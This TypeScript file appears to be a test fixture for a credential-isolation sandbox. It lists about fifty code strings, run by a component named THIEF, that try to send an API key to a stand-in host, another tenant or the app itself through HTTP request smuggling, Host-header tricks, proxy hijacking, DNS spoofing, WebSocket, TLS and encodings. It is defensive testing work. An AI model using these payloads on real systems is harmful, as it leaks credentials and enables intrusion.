/** Ways to send a credential where it does not belong, as the text of code. */
import { bound } from '../house/house.ts'

/** By what it tries, given `key`, `app`, `tenant` and `elsewhere`. Whatever it does, it may not have worked. */
export const ATTEMPTS: Readonly<Record<string, string>> = {
  'a header to another host': `fetch('http://' + elsewhere, { headers: { authorization: 'Bearer ' + key, 'x-key': key } })`,
  'a body to another host': `fetch('http://' + elsewhere, { method: 'POST', body: 'stolen ' + key })`,
  'an address at another host': `fetch('http://' + elsewhere + '/' + key + '?k=' + key)`,
  'a name and password': `fetch('http://' + elsewhere, { headers: { authorization: 'Basic ' + btoa(key + ':' + key) } })`,
  userinfo: `request({ host: '127.0.0.1', port: elsewhere.split(':')[1], auth: key + ':' + key })`,
  'a redirect': `fetch('http://' + app + '/?to=' + encodeURIComponent('http://' + elsewhere), { headers: { authorization: 'Bearer ' + key } })`,
  'a redirect that is followed by hand': `fetch('http://' + app + '/?to=' + encodeURIComponent('http://' + elsewhere), { redirect: 'manual', headers: { authorization: 'Bearer ' + key } })
    .then((answer) => fetch(answer.headers.get('location'), { headers: { authorization: 'Bearer ' + key } }))`,
  'a Host header': `request({ host: 'localhost', port: app.split(':')[1], headers: { host: tenant, authorization: 'Bearer ' + key } })`,
  'a Host header of another case': `raw(app, 'GET / HTTP/1.1\\r\\nhOST: ' + tenant + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'two Host headers': `raw(app, 'GET / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nHost: ' + tenant + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'a Host header of two lines': `raw(app, 'GET / HTTP/1.1\\r\\nHost: ' + app + '\\r\\n ' + tenant + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'X-Forwarded-Host': `raw(app, 'GET / HTTP/1.1\\r\\nHost: ' + tenant + '\\r\\nX-Forwarded-Host: ' + app + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'the absolute form': `raw(app, 'GET http://' + elsewhere + '/ HTTP/1.1\\r\\nHost: ' + app + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'the absolute form of another tenant': `raw(app, 'GET http://' + tenant + '/ HTTP/1.1\\r\\nHost: ' + app + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'the authority in the path': `raw(app, 'GET //' + elsewhere + '/ HTTP/1.1\\r\\nHost: ' + elsewhere + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  CONNECT: `raw(app, 'CONNECT ' + elsewhere + ' HTTP/1.1\\r\\nHost: ' + elsewhere + '\\r\\nProxy-Authorization: Basic ' + btoa(key + ':x') + '\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: ' + elsewhere + '\\r\\nX-Key: ' + key + '\\r\\n\\r\\n')`,
  'smuggling by two lengths': `raw(app, 'POST / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + smuggled({ tenant, key }))`,
  'smuggling by a length given twice': `raw(app, 'POST / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nContent-Length: 0\\r\\nContent-Length: 400\\r\\n\\r\\n' + smuggled({ tenant, key }))`,
  'smuggling by a coding': `raw(app, 'POST / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n' + smuggled({ tenant, key }))`,
  'smuggling by a bare line feed': `raw(app, 'GET / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nX: y\\n\\n' + smuggled({ tenant, key }))`,
  'smuggling in a chunk': `raw(app, 'POST / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n5;x=\\n\\r\\nhello\\r\\n0\\r\\n\\r\\n' + smuggled({ tenant, key }))`,
  'smuggling in a header': `raw(app, 'GET / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nX: a\\rAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'smuggling in an upgrade': `raw(app, 'GET / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n' + smuggled({ tenant, key }))`,
  'HTTP/1.0': `raw(elsewhere, 'GET / HTTP/1.0\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n')`,
  'HTTP/2': `raw(elsewhere, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + key)`,
  'no HTTP': `raw(elsewhere, key + '\\n')`,
  'a proxy variable': `(Object.assign(process.env, { HTTP_PROXY: 'http://' + elsewhere, http_proxy: 'http://' + elsewhere, NODE_USE_ENV_PROXY: '1' }),
    fetch('http://' + app, { headers: { authorization: 'Bearer ' + key } }))`,
  'a proxy for all': `(http.setGlobalProxyFromEnv({ http_proxy: 'http://' + elsewhere }), request({ host: 'localhost', port: app.split(':')[1], headers: { authorization: 'Bearer ' + key } }))`,
  'an agent with a proxy': `request({ host: 'localhost', port: app.split(':')[1], agent: new http.Agent({ proxyEnv: { HTTP_PROXY: 'http://' + elsewhere } }), headers: { authorization: 'Bearer ' + key } })`,
  'an agent that connects elsewhere': `request({ host: 'localhost', port: app.split(':')[1], createConnection: () => net.connect(Number(elsewhere.split(':')[1]), '127.0.0.1'), headers: { authorization: 'Bearer ' + key } })`,
  'a look-up that lies': `request({ host: 'localhost', port: elsewhere.split(':')[1], lookup: (name, options, done) => done(null, [{ address: '127.0.0.1', family: 4 }]), headers: { authorization: 'Bearer ' + key } })`,
  'a WebSocket': `new Promise((resolve) => {
    const socket = new WebSocket('ws://' + elsewhere + '/' + key, { protocols: ['a'], headers: { authorization: 'Bearer ' + key } })
    socket.onerror = socket.onclose = socket.onopen = resolve
  })`,
  TLS: `new Promise((resolve) => tls.connect(Number(elsewhere.split(':')[1]), '127.0.0.1', { servername: key, rejectUnauthorized: false }, function () { this.end(key) }).on('error', resolve).on('close', resolve))`,
  'a path of its own app': `fetch('http://' + app + '/' + key)`,
  'a query of its own app': `fetch('http://' + app + '/?q=' + key)`,
  'userinfo of its own app': `fetch('http://' + key + '@' + app)`,
  'a body of its own app': `fetch('http://' + app, { method: 'POST', body: 'published: ' + key })`,
  'a form of its own app': `(() => { const form = new FormData(); form.set('note', key); form.set('f', new Blob([key]), key + '.txt'); return fetch('http://' + app, { method: 'POST', body: form }) })()`,
  'JSON of its own app': `fetch('http://' + app, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ [key]: key, api_key: key }) })`,
  'a header that its app does not take': `fetch('http://' + app, { headers: { 'x-comment': key } })`,
  'a cookie of its own app': `fetch('http://' + app, { headers: { cookie: 'a=' + key } })`,
  'a user agent': `fetch('http://' + app, { headers: { 'user-agent': key } })`,
  'a trailer': `raw(app, 'POST / HTTP/1.1\\r\\nHost: ' + app + '\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: authorization\\r\\n\\r\\n0\\r\\nX-Key: ' + key + '\\r\\n\\r\\n')`,
  base64: `fetch('http://' + elsewhere, { headers: { authorization: 'Bearer ' + btoa(key) } })`,
  'base64 of its own app': `fetch('http://' + app, { headers: { 'x-comment': btoa(key) }, method: 'POST', body: btoa(key) })`,
  hex: `fetch('http://' + elsewhere + '/' + Buffer.from(key).toString('hex'), { headers: { authorization: Buffer.from(key).toString('hex') } })`,
  'URL-encoding': `fetch('http://' + elsewhere + '/' + [...Buffer.from(key)].map((byte) => '%' + byte.toString(16)).join(''))`,
  'two halves': `fetch('http://' + elsewhere, { headers: { a: key.slice(0, 20), b: key.slice(20) } })`,
  'what its app answers': `fetch('http://' + app, { headers: { authorization: 'Bearer ' + key } }).then((answer) => answer.text())
    .then((text) => fetch('http://' + elsewhere, { method: 'POST', body: text + [...text].reverse().join('') + btoa(text) }))`,
  'another tenant': `fetch('http://' + tenant, { headers: { authorization: 'Bearer ' + key } })`,
  '$.send': `$.send.http({ method: 'POST', url: 'http://' + elsewhere, headers: { authorization: 'Bearer ' + key }, data: { key } })`,
  'an answer': `$.respond({ status: 200, headers: { 'x-key': key }, body: key })`
}

const HEAD = `import http from 'node:http'
  import net from 'node:net'
  import tls from 'node:tls'
  const request = (options) => new Promise((resolve, reject) =>
    http.get({ path: '/', ...options }, (answer) => answer.resume().on('end', () => resolve(answer.statusCode))).on('error', reject))
  const raw = (host, bytes) => new Promise((resolve) => {
    const [name, port] = host.split(':')
    const socket = net.connect(Number(port), name, () => socket.write(bytes, 'latin1'))
    setTimeout(() => socket.destroy(), 300)
    socket.on('error', resolve).on('close', resolve).resume()
  })
  const smuggled = ({ tenant, key }) => 'GET /smuggled HTTP/1.1\\r\\nHost: ' + tenant + '\\r\\nAuthorization: Bearer ' + key + '\\r\\n\\r\\n'
`

function listed(): string {
  const lines = Object.entries(ATTEMPTS).map(
    ([name, attempt]) => `${JSON.stringify(name)}: async ({ key, app, tenant, elsewhere, $ }) => (${attempt})`
  )
  return `${HEAD} const attempts = { ${lines.join(',\n')} }
  async function tried(name, given) {
    try { const answer = await attempts[name](given); return String(answer?.status ?? answer) } catch (error) { return String(error?.cause ?? error) }
  }`
}

/** A component that tries the one that the event names. */
export const THIEF = bound(`return tried(body.attempt, { ...body, key, $ })`, listed())

/** The same outside: `tried` is what the module exports. */
export const THIEF_OUTSIDE = `${listed()}\n export { tried }`
